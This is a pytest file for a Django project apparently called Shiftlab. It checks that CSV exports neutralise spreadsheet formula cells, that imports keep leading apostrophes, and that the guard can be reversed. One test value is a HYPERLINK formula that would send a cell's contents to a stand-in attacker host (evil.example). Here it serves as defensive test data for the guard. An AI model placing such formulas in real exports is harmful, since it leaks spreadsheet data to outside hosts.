"""One CSV writer, with the formula guard, for every export (issue 39).

The command-line export of a transformation run wrote its CSV with a bare ``csv.writer``: a
generated text starting with ``=`` opened as a formula in a spreadsheet. Every CSV Shiftlab
writes now goes through ``core.spreadsheet.spreadsheet_writer``. The importer never alters a cell
(STS-B has sentences starting with ``''``), so a lossless round trip exports to JSON Lines."""

from __future__ import annotations

import csv
import io

import pytest
from django.conf import settings
from django.core.management import call_command

from core.spreadsheet import spreadsheet_cell, spreadsheet_value, spreadsheet_writer
from corpora.services import dataset_import
from tests.support import eager_keyword_run
from transforms.models import TransformedItem

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "details")'


def test_the_command_line_run_export_guards_formula_cells_and_jsonl_imports_back(tmp_path):
    sts = dataset_import(source=settings.BASE_DIR / "fixtures/sts/demo-sts.csv", task="sts", name="csv-sts")
    run = eager_keyword_run(sts, limit=3)
    outputs = list(TransformedItem.objects.filter(run=run).order_by("pk"))
    texts = {outputs[0].pk: FORMULA, outputs[1].pk: "-1 point", outputs[2].pk: "'=already quoted"}
    for out in outputs[:3]:
        TransformedItem.objects.filter(pk=out.pk).update(output_text=texts[out.pk])
    path = tmp_path / "out.csv"
    call_command("transform", "--run", str(run.pk), "--export", str(path), stdout=io.StringIO())
    cells = [cell for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'-1 point" in cells and "''=already quoted" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    back = dataset_import(source=path, task="sts", name="csv-back")
    imported = {text for item in back.items.all() for text in (item.payload["sentence1"], item.payload["sentence2"])}
    assert "'" + FORMULA in imported and FORMULA not in imported  # the importer takes a cell as written

    lossless = tmp_path / "out.jsonl"
    call_command("transform", "--run", str(run.pk), "--export", str(lossless), stdout=io.StringIO())
    back = dataset_import(source=lossless, task="sts", name="jsonl-back")
    imported = {text for item in back.items.all() for text in (item.payload["sentence1"], item.payload["sentence2"])}
    assert set(texts.values()) <= imported


def test_the_importer_keeps_a_leading_apostrophe(tmp_path):
    path = tmp_path / "quotes.csv"
    path.write_text("sentence1,sentence2,score\n'' Coach said,'=x,3\n", encoding="utf-8")
    (item,) = dataset_import(source=path, task="sts", name="quotes").items.all()
    assert (item.payload["sentence1"], item.payload["sentence2"]) == ("'' Coach said", "'=x")


@pytest.mark.parametrize("text", [FORMULA, "+1", "-x", "@SUM(A1)", "\t=1", "'=1", "''x", "'plain", "plain", "", "＝1"])
def test_the_guard_is_reversible(text):
    assert spreadsheet_value(spreadsheet_cell(text)) == text
    out = io.StringIO()
    spreadsheet_writer(out, lineterminator="\n").writerow([text, 1.5])
    (cell, number), *_ = csv.reader(io.StringIO(out.getvalue()))
    assert spreadsheet_value(cell) == text and number == "1.5"
    assert not cell.startswith(("=", "+", "-", "@", "\t"))
